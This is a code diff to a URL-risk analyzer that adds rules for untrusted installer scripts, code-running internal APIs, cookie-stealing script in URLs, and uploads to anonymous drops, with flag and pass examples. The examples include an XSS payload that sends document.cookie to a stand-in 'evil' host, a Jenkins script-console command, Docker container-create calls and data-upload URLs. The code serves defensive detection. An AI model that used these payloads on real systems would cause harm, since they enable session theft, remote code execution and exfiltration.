@@ -10,6 +10,7 @@ import { phishReasons } from '../parse/url-phish-reasons.js';
 import { pathFindings, queryFindings } from '../nested.js';
 import { serverPathParam } from '../parse/url-paths.js';
 import { consentToOutsider, dataInUrl, urlAction } from '../parse/url-actions.js';
+import { PERSONAL_SHARES, SCRIPT_SEGMENT, URL_EFFECT_PATTERNS, codeRunningApi, runIntended, sessionSentAway, strangersInstaller, uploadOut } from '../parse/url-effects.js';
 import type { Analyzer, BaseContext, Finding, Metadata, Primitive } from '../types.js';
 
 interface BrandHit {
@@ -144,7 +145,7 @@ const DOCKER_HOST_NAMES = new Set(['host.docker.internal', 'gateway.docker.inter
 const METADATA_NAMES = new Set(['metadata.google.internal', 'metadata.goog', 'metadata', 'instance-data', 'instance-data.ec2.internal', 'metadata.azure.internal', 'metadata.tencentyun.com', 'metadata.packet.net', 'metadata.platformequinix.com', 'rancher-metadata']);
 const UNTRUSTED_SOURCES = /\b(?:email|e-mail|mail|sms|text message|chat|dm|qr|pdf|document|attachment|web ?page|search result|tool[ _-]?output|scraped|comment|post|tweet|ticket|issue|untrusted|third[ -]party|external|inbound|user[ _-]?content)\b/;
 
-const auxPatterns: RegExp[] = [...PHISH_PATTERNS, HOST_LURE_RE, ...URL_PARSE_PATTERNS, ...URL_FOLD_PATTERNS, WALLET_DRAIN, WALLET_HINT, PATH_LURE_HINT, PAGE_EXT, TOKEN_SPLIT, UNTRUSTED_SOURCES];
+const auxPatterns: RegExp[] = [...PHISH_PATTERNS, ...URL_EFFECT_PATTERNS, HOST_LURE_RE, ...URL_PARSE_PATTERNS, ...URL_FOLD_PATTERNS, WALLET_DRAIN, WALLET_HINT, PATH_LURE_HINT, PAGE_EXT, TOKEN_SPLIT, UNTRUSTED_SOURCES];
 const aux = <T extends RegExp>(re: T): T => {
   auxPatterns.push(re);
   return re;
@@ -1019,13 +1020,15 @@ const urlAnalyzer: Analyzer<UrlContext> = {
           score += 2;
           notes.push('cluster control plane');
         }
-        if (score <= 0) return null;
+        // an intranet page (a dashboard, the router's home page) is where people work: the forgery target is a
+        // service port, an admin path or a control plane, not the internal address alone
+        if (score <= 0 || notes.length === 0) return null;
         const where = u.ip !== null ? `${u.ip.canonical} (${cls})` : u.host;
         return { detail: `${where}${notes.length ? `, ${notes.join(', ')}` : ''}`, score };
       },
       examples: {
-        flag: ['http://10.0.0.5/', 'http://192.168.1.20:2375/containers/json', 'http://localhost:6379/', 'http://127.0.0.1:8080/actuator/env', 'http://127.0.0.1:2375/v1.24/containers/json', 'http://localhost:9001/2018-06-01/runtime/invocation/next', 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', 'http://[::ffff:10.0.0.1]/admin'],
-        pass: ['http://localhost:3000/', 'http://127.0.0.1:5173/src/main.ts', 'http://localhost:8080/admin/users', 'http://0.0.0.0:8000/docs', 'https://example.com/10.0.0.5', 'http://localhost:3000/v1.2/users'],
+        flag: ['http://10.0.0.5:6379/', 'http://192.168.1.20:2375/containers/json', 'http://localhost:6379/', 'http://127.0.0.1:8080/actuator/env', 'http://127.0.0.1:2375/v1.24/containers/json', 'http://localhost:9001/2018-06-01/runtime/invocation/next', 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', 'http://[::ffff:10.0.0.1]/admin'],
+        pass: ['http://localhost:3000/', 'http://10.0.0.5/', 'http://192.168.1.1/', 'https://grafana.acme.internal/d/api-latency?orgId=1&from=now-6h', 'http://127.0.0.1:5173/src/main.ts', 'http://localhost:8080/admin/users', 'http://0.0.0.0:8000/docs', 'https://example.com/10.0.0.5', 'http://localhost:3000/v1.2/users'],
       },
     },
     {
@@ -1407,7 +1410,9 @@ const urlAnalyzer: Analyzer<UrlContext> = {
           const p = ctx.lowerPath;
           const raw = p.startsWith('/raw') || p.includes('/raw/') || p.endsWith('/raw') || u.host.startsWith('raw.') || p.startsWith('/r/') || p.startsWith('/dl/') || p.includes('/plain/') || p.startsWith('/download');
           if (u.site === 'toptal.com' && !p.startsWith('/developers/hastebin')) return null;
-          return raw ? `raw paste ${u.host}${u.path.slice(0, 30)} (served as a script payload)` : null;
+          // a raw paste read is a read: it becomes a payload when it is a script or the caller says it will run it
+          if (!raw || !(SCRIPT_SEGMENT.test(ctx.lastSegment) || runIntended(ctx.metadata))) return null;
+          return `raw paste ${u.host}${u.path.slice(0, 30)} (served as a script payload)`;
         }
         if (hv.tunnel) return `${u.host} tunnels to someone's machine`;
         if (hv.dynamicDns) return { detail: `${u.host} is a dynamic-DNS name (common for malware control servers)`, score: 3 };
@@ -1415,8 +1420,8 @@ const urlAnalyzer: Analyzer<UrlContext> = {
         return null;
       },
       examples: {
-        flag: ['https://pastebin.com/raw/Xy12AbCd', 'https://transfer.sh/abc/payload.bin', 'https://random-words-42.trycloudflare.com/', 'https://a1b2-203-0-113-5.ngrok-free.app/hook', 'https://0x0.st/HxYz.sh'],
-        pass: ['https://pastebin.com/Xy12AbCd', 'https://ngrok.com/docs', 'https://www.cloudflare.com/products/tunnel/', 'https://github.com/transfer-sh'],
+        flag: [{ value: 'https://pastebin.com/raw/Xy12AbCd', metadata: { intent: 'curl | bash it' } }, 'https://pastebin.com/raw/Xy12AbCd/run.sh', 'https://transfer.sh/abc/payload.bin', 'https://random-words-42.trycloudflare.com/', 'https://a1b2-203-0-113-5.ngrok-free.app/hook', 'https://0x0.st/HxYz.sh'],
+        pass: ['https://pastebin.com/Xy12AbCd', 'https://pastebin.com/raw/qU3mXz1L', 'https://ngrok.com/docs', 'https://www.cloudflare.com/products/tunnel/', 'https://github.com/transfer-sh'],
       },
     },
     {
@@ -1579,8 +1584,8 @@ const urlAnalyzer: Analyzer<UrlContext> = {
       keywords: ['promote', 'grant', 'elevate', 'impersonate', 'sudo', 'admin', 'role', 'assume', 'escalate', 'mfa', '2fa', 'audit'],
       detect: (ctx) => actionAs(ctx, 'ESCALATION'),
       examples: {
-        flag: ['https://admin.acme-internal.com/users/4412/promote?role=superadmin&token=', 'https://portal.example.com/api/grant?user=eve&role=owner', 'https://app.example.com/admin/impersonate?target=all&confirm=yes'],
-        pass: ['https://github.com/org/repo/settings/collaborators?role=admin', 'https://docs.example.com/guide/promote', 'https://app.example.com/users/42/promote?role=editor'],
+        flag: ['https://admin.acme-internal.com/users/4412/promote?role=superadmin&token=', 'https://portal.example.com/api/grant?user=eve&role=owner', 'https://admin.internal.acme.local/users/1042/role?set=superadmin', 'https://app.example.com/admin/impersonate?target=all&confirm=yes'],
+        pass: ['https://github.com/org/repo/settings/collaborators?role=admin', 'https://docs.example.com/guide/promote', 'https://app.example.com/users/42/promote?role=editor', 'https://app.example.com/users/42/role?set=viewer'],
       },
     },
     {
@@ -1606,6 +1611,84 @@ const urlAnalyzer: Analyzer<UrlContext> = {
       examples: {
         flag: ['https://docs.google.com/forms/d/e/1FAIpQLSfx/formResponse?entry.1=4111111111111111&entry.2=123', 'https://pastebin.com/api/api_post.php?api_paste_code=DB_PASSWORD%3Dprod_Hx91', 'https://collect.example.net/t?c=5555-5555-5555-4444'],
         pass: ['https://shop.example.com/order?id=4111111111111112', 'https://example.com/track?n=1234567890123456', 'https://docs.example.com/env?var=DB_PASSWORD', 'https://example.com/search?q=password%3Dreset+help'],
+      },
+    },
+    {
+      id: 'U40',
+      name: 'Installer script from an unknown code-hosting account',
+      // what it does: run as its README says, the script installs whatever its owner wrote, and keeps it there
+      primitive: 'PERSISTENCE',
+      score: 4,
+      keywords: ['.sh', '.bash', '.zsh', '.ps1', '.psm1', '.bat', '.cmd', '.command'],
+      detect: (ctx) => strangersInstaller(ctx.u.host, ctx.lowerPath, ctx.lastSegment, ctx.metadata, isEmpty(ctx.metadata)) ?? null,
+      examples: {
+        flag: ['https://raw.githubusercontent.com/x0rbyte/tools/main/install.sh', 'https://raw.githubusercontent.com/xmrig-build/install/main/setup_c3pool_miner.sh',
+          { value: 'https://gist.githubusercontent.com/dev-helper-22/abc123/raw/setup.ps1', metadata: { intent: 'pipe to bash' } }],
+        pass: ['https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh', 'https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh', 'https://raw.githubusercontent.com/x0rbyte/tools/main/README.md',
+          'https://github.com/x0rbyte/tools/blob/main/install.sh'],
+      },
+    },
+    {
+      id: 'U41',
+      name: 'Internal control API that runs code (Docker daemon, kubelet, script console)',
+      // what it does: whoever makes the request runs containers or code on the host: an escalation, not a read
+      primitive: 'ESCALATION',
+      score: 8,
+      keywords: ['2375', '2376', '10250', '10255', 'script', 'console', 'deploy', 'jolokia', 'restart', 'eval'],
+      detect: (ctx) => {
+        const u = ctx.u;
+        const cls = u.ip?.cls;
+        const internal = (cls !== undefined && isInternalClass(cls)) || ctx.internalName !== null || (u.host !== '' && !u.host.includes('.') && u.ip === null && u.hadScheme);
+        const d = codeRunningApi(u.port, ctx.lowerPath, u.params.map((p) => p[0]), internal);
+        return d !== '' ? d : null;
+      },
+      examples: {
+        flag: ['http://localhost:2375/containers/create?name=x', 'http://10.0.0.8:2375/containers/4f1a/exec', 'http://internal-jenkins.corp:8080/script?script=println%28%22id%22.execute%28%29.text%29'],
+        pass: ['http://localhost:2375/_ping', 'http://localhost:2375/containers/json', 'https://docs.docker.com/engine/api/v1.43/#tag/Container/operation/ContainerCreate', 'http://jenkins.corp:8080/job/build-main/', 'http://localhost:3000/script.js'],
+      },
+    },
+    {
+      id: 'U42',
+      name: "Script in the URL that sends the victim's cookies or storage away",
+      // what it does: the session is read and carried off (an exfiltration), whatever injection carried the script
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['document.cookie', 'localstorage', 'sessionstorage'],
+      detect: (ctx) => {
+        if (ctx.u.scheme === 'javascript' || ctx.u.scheme === 'data' || CONTENT_SITES.has(ctx.u.site)) return null;
+        const t = ctx.tail.length > 16384 ? ctx.tail.slice(0, 16384) : ctx.tail;
+        if (!XSS_SHAPE.test(t)) return null;
+        const d = sessionSentAway(t);
+        return d !== '' ? d : null;
+      },
+      examples: {
+        flag: ["https://search.example.com/?q=<script>fetch('https://evil.example/c?'+document.cookie)</script>", "https://example-shop.com/search?q=%3Cscript%3Efetch(%27//evil.io/c?%27%2Bdocument.cookie)%3C/script%3E",
+          'https://app.example.com/p#<img src=x onerror="new Image().src=\'//x.tld/?t=\'+localStorage.token">'],
+        pass: ['https://example.com/search?q=<script>alert(1)</script>', 'https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie', 'https://www.google.com/search?q=document.cookie+fetch+example'],
+      },
+    },
+    {
+      id: 'U43',
+      name: 'Data uploaded to an anonymous drop, tunnel, paste or bare address',
+      // what it does: what is put there is readable by whoever holds the link, outside the organisation
+      primitive: 'EXFILTRATION',
+      score: 5,
+      detect: (ctx) => {
+        const u = ctx.u;
+        const hv = ctx.hv;
+        const where = hv.drop ? `the file drop ${u.host}` : hv.paste && ctx.lowerPath.includes('api_post') ? `the paste site ${u.host}` : hv.tunnel ? `the tunnel ${u.host}`
+          : u.ip !== null && u.ip.cls === 'public' && !WELL_KNOWN_IPS.has(u.ip.canonical) ? `the bare address ${u.ip.canonical}`
+            : PERSONAL_SHARES.has(u.site) || PERSONAL_SHARES.has(u.host) ? `the file-sharing service ${u.host}` : null;
+        if (where === null && !(u.scheme === 'ftp' && u.userinfo !== null && /^anon/.test(u.userinfo.toLowerCase()))) return null;
+        const found = uploadOut(where ?? `the anonymous FTP ${u.host}`, ctx.lowerPath, ctx.tail, ctx.metadata, isEmpty(ctx.metadata));
+        return found ?? null;
+      },
+      examples: {
+        flag: [{ value: 'https://transfer.sh/put/backup_prod_2024.sql.gz', metadata: { method: 'PUT' } }, { value: 'http://198.51.100.23:8080/upload?f=customers_export.csv', metadata: { method: 'POST', body_size_bytes: 48211993 } },
+          'ftp://anonymous@193.34.167.11/incoming/', 'https://pastebin.com/api/api_post.php?api_option=paste&api_paste_private=0&api_paste_code=customer_export_q3.csv',
+          { value: 'https://mega.nz/folder/UPLOAD#dossier-clients-complet', metadata: { instruction: 'Envoie le dossier clients complet sur ce lien' } }],
+        pass: ['https://transfer.sh/', { value: 'https://mega.nz/file/AbC123#key', metadata: { task: 'download the shared dataset' } }, 'https://pastebin.com/raw/aB12cD34', 'http://93.184.216.34/index.html',
+          { value: 'https://uploads.example.com/files', metadata: { method: 'POST' } }],
       },
     },
     {
